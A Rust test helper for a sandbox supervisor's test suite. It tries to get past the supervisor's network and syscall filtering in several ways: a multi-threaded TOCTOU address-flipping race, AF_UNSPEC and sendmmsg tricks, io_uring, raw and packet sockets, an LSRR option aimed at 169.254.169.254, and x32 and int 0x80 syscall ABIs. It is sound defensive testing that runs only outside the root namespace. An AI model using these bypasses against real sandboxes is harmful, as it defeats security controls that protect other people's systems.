//! Test helper for `metaguard exec` (not shipped): the attacks a Python
//! client cannot make — a multi-threaded TOCTOU racer, AF_UNSPEC and
//! sendmmsg tricks, io_uring, raw and packet sockets, foreign system-call
//! ABIs. Prints one JSON object. Used by `tests/exec`.
//!
//! Every subcommand that sends refuses to run in the root network
//! namespace (the lab's rule): targets are lab addresses only.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, AtomicU16, AtomicU32, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Inode of the kernel's initial network namespace.
const INIT_NET_INO: u64 = 0xEFFF_FFF9;

fn not_root_netns() {
    use std::os::unix::fs::MetadataExt;
    let me = std::fs::metadata("/proc/self/ns/net").map(|m| m.ino());
    let init = std::fs::metadata("/proc/1/ns/net").map(|m| m.ino()).ok();
    match me {
        Ok(ino) if ino != INIT_NET_INO && Some(ino) != init => {}
        _ => {
            eprintln!("exec_attack: refusing to send from the root network namespace");
            std::process::exit(3);
        }
    }
}

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn errname(e: i32) -> String {
    match e {
        libc::EACCES => "EACCES".into(),
        libc::EPERM => "EPERM".into(),
        libc::ENOSYS => "ENOSYS".into(),
        libc::ECONNREFUSED => "ECONNREFUSED".into(),
        libc::EINVAL => "EINVAL".into(),
        libc::EAFNOSUPPORT => "EAFNOSUPPORT".into(),
        libc::EPROTONOSUPPORT => "EPROTONOSUPPORT".into(),
        libc::ESOCKTNOSUPPORT => "ESOCKTNOSUPPORT".into(),
        n => format!("errno{n}"),
    }
}

fn result(r: i64) -> String {
    if r < 0 {
        format!("err:{}", errname(errno()))
    } else {
        "ok".into()
    }
}

fn v4(s: &str) -> SocketAddrV4 {
    match s.parse() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("exec_attack: {s:?}: {e}");
            std::process::exit(2);
        }
    }
}

/// A `sockaddr_in` whose address another thread may rewrite at any time.
#[repr(C)]
struct RacyAddr {
    family: AtomicU16,
    port: AtomicU16,
    addr: AtomicU32,
    zero: [u8; 8],
}

impl RacyAddr {
    fn new(a: SocketAddrV4) -> RacyAddr {
        RacyAddr {
            family: AtomicU16::new(libc::AF_INET as u16),
            port: AtomicU16::new(a.port().to_be()),
            addr: AtomicU32::new(u32::from_ne_bytes(a.ip().octets())),
            zero: [0; 8],
        }
    }
}

fn close(fd: i32) {
    // SAFETY: closing a descriptor this program opened and owns.
    unsafe { libc::close(fd) };
}

fn socket(ty: i32) -> i32 {
    // SAFETY: plain socket(2) call with constant arguments.
    unsafe { libc::socket(libc::AF_INET, ty | libc::SOCK_CLOEXEC, 0) }
}

fn peer_of(fd: i32) -> Option<Ipv4Addr> {
    // SAFETY: sockaddr_in is plain data; getpeername writes at most `len`
    // bytes into it.
    let mut sa: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    let mut len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
    // SAFETY: `sa`/`len` are valid out-pointers for the call.
    let r = unsafe { libc::getpeername(fd, (&mut sa as *mut libc::sockaddr_in).cast(), &mut len) };
    (r == 0).then(|| Ipv4Addr::from(sa.sin_addr.s_addr.to_ne_bytes()))
}

/// The racer: one thread connects (or sends) with `shared`, others flip its
/// address between the allowed and the target destination as fast as they
/// can, so some flips land after the supervisor read the address.
fn race(
    kind: &str,
    allowed: SocketAddrV4,
    target: SocketAddrV4,
    iters: u64,
    max: Duration,
    marker: &str,
) {
    not_root_netns();
    let shared = Arc::new(RacyAddr::new(allowed));
    let stop = Arc::new(AtomicBool::new(false));
    let flips = Arc::new(AtomicU64::new(0));
    let a = u32::from_ne_bytes(allowed.ip().octets());
    let t = u32::from_ne_bytes(target.ip().octets());
    let mut flippers = Vec::new();
    for _ in 0..2 {
        let (shared, stop, flips) = (Arc::clone(&shared), Arc::clone(&stop), Arc::clone(&flips));
        flippers.push(std::thread::spawn(move || {
            let mut n = 0u64;
            while !stop.load(Ordering::Relaxed) {
                shared.addr.store(t, Ordering::Relaxed);
                std::hint::spin_loop();
                shared.addr.store(a, Ordering::Relaxed);
                n += 1;
            }
            flips.fetch_add(n, Ordering::Relaxed);
        }));
    }
    let ptr = Arc::as_ptr(&shared) as *const libc::sockaddr;
    let len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
    let (mut ok, mut reached, mut denied, mut other) = (0u64, 0u64, 0u64, 0u64);
    let start = Instant::now();
    let mut done = 0;
    // sendmsg: a msghdr whose msg_name points at the racy address.
    let mut iov_buf = Vec::new();
    for i in 0..iters {
        if start.elapsed() > max {
            break;
        }
        done = i + 1;
        let line = format!("MGPROBE {marker}-{i}\n");
        match kind {
            "connect" => {
                let fd = socket(libc::SOCK_STREAM);
                let tv = libc::timeval {
                    tv_sec: 1,
                    tv_usec: 0,
                };
                // SAFETY: `tv` is a valid timeval for SO_SNDTIMEO, alive
                // for the call; `ptr` points at `shared` (a sockaddr_in
                // layout) kept alive by the Arc for the whole loop.
                let r = unsafe {
                    libc::setsockopt(
                        fd,
                        libc::SOL_SOCKET,
                        libc::SO_SNDTIMEO,
                        (&tv as *const libc::timeval).cast(),
                        std::mem::size_of::<libc::timeval>() as libc::socklen_t,
                    );
                    libc::connect(fd, ptr, len)
                };
                if r == 0 {
                    match peer_of(fd) {
                        Some(p) if p == *target.ip() => reached += 1,
                        _ => ok += 1,
                    }
                    // SAFETY: `line` is alive and its length is passed.
                    unsafe { libc::send(fd, line.as_ptr().cast(), line.len(), libc::MSG_NOSIGNAL) };
                } else if errno() == libc::EACCES {
                    denied += 1;
                } else {
                    other += 1;
                }
                close(fd);
            }
            "sendto" | "sendmsg" => {
                let fd = socket(libc::SOCK_DGRAM);
                iov_buf.clear();
                iov_buf.extend_from_slice(line.as_bytes());
                let r = if kind == "sendto" {
                    // SAFETY: `iov_buf` is alive with its length; `ptr`
                    // points at the live racy sockaddr_in.
                    unsafe { libc::sendto(fd, iov_buf.as_ptr().cast(), iov_buf.len(), 0, ptr, len) }
                } else {
                    let mut iov = libc::iovec {
                        iov_base: iov_buf.as_mut_ptr().cast(),
                        iov_len: iov_buf.len(),
                    };
                    // SAFETY: msghdr is plain data; all-zero is empty.
                    let mut h: libc::msghdr = unsafe { std::mem::zeroed() };
                    h.msg_name = ptr as *mut libc::c_void;
                    h.msg_namelen = len;
                    h.msg_iov = &mut iov;
                    h.msg_iovlen = 1;
                    // SAFETY: `h` points at `iov` and the racy address,
                    // both alive for the call.
                    unsafe { libc::sendmsg(fd, &h, 0) }
                };
                if r >= 0 {
                    ok += 1;
                } else if errno() == libc::EACCES {
                    denied += 1;
                } else {
                    other += 1;
                }
                close(fd);
            }
            _ => {
                eprintln!("exec_attack: unknown race kind {kind}");
                std::process::exit(2);
            }
        }
    }
    stop.store(true, Ordering::Relaxed);
    for f in flippers {
        let _ = f.join();
    }
    println!(
        "{{\"kind\":\"{kind}\",\"iters\":{done},\"ok\":{ok},\"reached_target\":{reached},\"denied\":{denied},\"other\":{other},\"flips\":{},\"secs\":{:.2}}}",
        flips.load(Ordering::Relaxed),
        start.elapsed().as_secs_f64()
    );
}

/// sendto with an AF_UNSPEC address: IPv4 UDP reads it as AF_INET.
fn unspec_sendto(target: SocketAddrV4, marker: &str) -> String {
    not_root_netns();
    let fd = socket(libc::SOCK_DGRAM);
    let mut sa = RacyAddr::new(target);
    sa.family = AtomicU16::new(libc::AF_UNSPEC as u16);
    let line = format!("MGPROBE {marker}\n");
    // SAFETY: `sa` has the sockaddr_in layout and lives for the call.
    let r = unsafe {
        libc::sendto(
            fd,
            line.as_ptr().cast(),
            line.len(),
            0,
            (&sa as *const RacyAddr).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    let out = result(r as i64);
    close(fd);
    out
}

/// sendmmsg of two datagrams to `target`.
fn sendmmsg(target: SocketAddrV4, marker: &str) -> String {
    not_root_netns();
    let fd = socket(libc::SOCK_DGRAM);
    let sa = RacyAddr::new(target);
    let lines = [
        format!("MGPROBE {marker}-a\n"),
        format!("MGPROBE {marker}-b\n"),
    ];
    let mut iovs: Vec<libc::iovec> = lines
        .iter()
        .map(|l| libc::iovec {
            iov_base: l.as_ptr() as *mut libc::c_void,
            iov_len: l.len(),
        })
        .collect();
    let mut msgs: Vec<libc::mmsghdr> = iovs
        .iter_mut()
        .map(|iov| {
            // SAFETY: msghdr is plain data; all-zero is empty.
            let mut h: libc::msghdr = unsafe { std::mem::zeroed() };
            h.msg_name = (&sa as *const RacyAddr) as *mut libc::c_void;
            h.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
            h.msg_iov = iov;
            h.msg_iovlen = 1;
            libc::mmsghdr {
                msg_hdr: h,
                msg_len: 0,
            }
        })
        .collect();
    // SAFETY: `msgs` point at `iovs`, `lines` and `sa`, all alive here.
    let r = unsafe { libc::sendmmsg(fd, msgs.as_mut_ptr(), msgs.len() as u32, 0) };
    let out = if r < 0 {
        result(-1)
    } else {
        format!("sent:{r}:len:{}", msgs[0].msg_len)
    };
    close(fd);
    out
}

fn io_uring() -> String {
    // SAFETY: io_uring_params is plain data, 120 bytes; the kernel reads
    // and writes it. On success we close the ring at once.
    let mut params = [0u8; 120];
    // SAFETY: `params` is a valid, writable io_uring_params buffer.
    let r = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4u32, params.as_mut_ptr()) };
    let out = result(r);
    if r >= 0 {
        close(r as i32);
    }
    out
}

/// Sockets that would bypass connect/sendto inspection. Created and closed
/// at once; nothing is sent.
fn raw_sockets() -> String {
    let tries: [(&str, u64, u64, u64); 7] = [
        (
            "inet_raw_icmp",
            libc::AF_INET as u64,
            libc::SOCK_RAW as u64,
            libc::IPPROTO_ICMP as u64,
        ),
        (
            "inet_raw_nonblock",
            libc::AF_INET as u64,
            (libc::SOCK_RAW | libc::SOCK_NONBLOCK) as u64,
            libc::IPPROTO_UDP as u64,
        ),
        (
            "inet6_raw",
            libc::AF_INET6 as u64,
            libc::SOCK_RAW as u64,
            libc::IPPROTO_ICMPV6 as u64,
        ),
        (
            "packet_raw",
            libc::AF_PACKET as u64,
            libc::SOCK_RAW as u64,
            0,
        ),
        (
            "packet_dgram",
            libc::AF_PACKET as u64,
            libc::SOCK_DGRAM as u64,
            0,
        ),
        // the high half of the register set: the kernel truncates to int
        (
            "packet_dgram_highbits",
            0xffff_ffff_0000_0000 | libc::AF_PACKET as u64,
            libc::SOCK_DGRAM as u64,
            0,
        ),
        (
            "inet_sctp",
            libc::AF_INET as u64,
            libc::SOCK_STREAM as u64,
            libc::IPPROTO_SCTP as u64,
        ),
    ];
    let mut parts = Vec::new();
    for (name, d, t, p) in tries {
        // SAFETY: socket(2) with integer arguments only.
        let r = unsafe { libc::syscall(libc::SYS_socket, d, t, p) };
        parts.push(format!("\"{name}\":\"{}\"", result(r)));
        if r >= 0 {
            close(r as i32);
        }
    }
    // An IPv4 source route (LSRR) socket option.
    let fd = socket(libc::SOCK_STREAM);
    let lsrr = [1u8, 0x83, 7, 4, 169, 254, 169, 254];
    // SAFETY: `lsrr` is alive and its length is passed.
    let r = unsafe {
        libc::setsockopt(
            fd,
            libc::IPPROTO_IP,
            libc::IP_OPTIONS,
            lsrr.as_ptr().cast(),
            lsrr.len() as u32,
        )
    };
    parts.push(format!("\"ip_options_lsrr\":\"{}\"", result(r as i64)));
    close(fd);
    format!("{{{}}}", parts.join(","))
}

fn x32_getpid() -> String {
    // SAFETY: getpid through the x32 ABI number; no arguments.
    let r = unsafe { libc::syscall(0x4000_0000 | libc::SYS_getpid) };
    result(r)
}

#[cfg(target_arch = "x86_64")]
fn int80_getpid() -> String {
    let mut eax: i64 = 20; // i386 __NR_getpid
                           // SAFETY: `int 0x80` with eax = 20 is the i386 getpid, which takes no
                           // arguments and touches no memory; the kernel clobbers only eax (and
                           // r8-r11 are preserved by the 32-bit entry). Declared as clobbering
                           // eax only.
    unsafe {
        std::arch::asm!("int 0x80", inout("rax") eax, options(nostack));
    }
    if eax < 0 {
        format!("err:errno{}", -eax)
    } else {
        "ok".into()
    }
}

#[cfg(not(target_arch = "x86_64"))]
fn int80_getpid() -> String {
    "unsupported".into()
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let arg = |i: usize| args.get(i).cloned().unwrap_or_default();
    let num = |i: usize, d: u64| arg(i).parse().unwrap_or(d);
    match arg(1).as_str() {
        "race" => race(
            &arg(2),
            v4(&arg(3)),
            v4(&arg(4)),
            num(5, 10_000),
            Duration::from_secs(num(6, 60)),
            &arg(7),
        ),
        "unspec-sendto" => println!(
            "{{\"unspec_sendto\":\"{}\"}}",
            unspec_sendto(v4(&arg(2)), &arg(3))
        ),
        "sendmmsg" => println!("{{\"sendmmsg\":\"{}\"}}", sendmmsg(v4(&arg(2)), &arg(3))),
        "io-uring" => println!("{{\"io_uring_setup\":\"{}\"}}", io_uring()),
        "raw-sockets" => println!("{}", raw_sockets()),
        "x32-getpid" => println!("{{\"x32_getpid\":\"{}\"}}", x32_getpid()),
        "int80-getpid" => println!("{{\"int80_getpid\":\"{}\"}}", int80_getpid()),
        other => {
            eprintln!("exec_attack: unknown command {other:?}");
            std::process::exit(2);
        }
    }
}
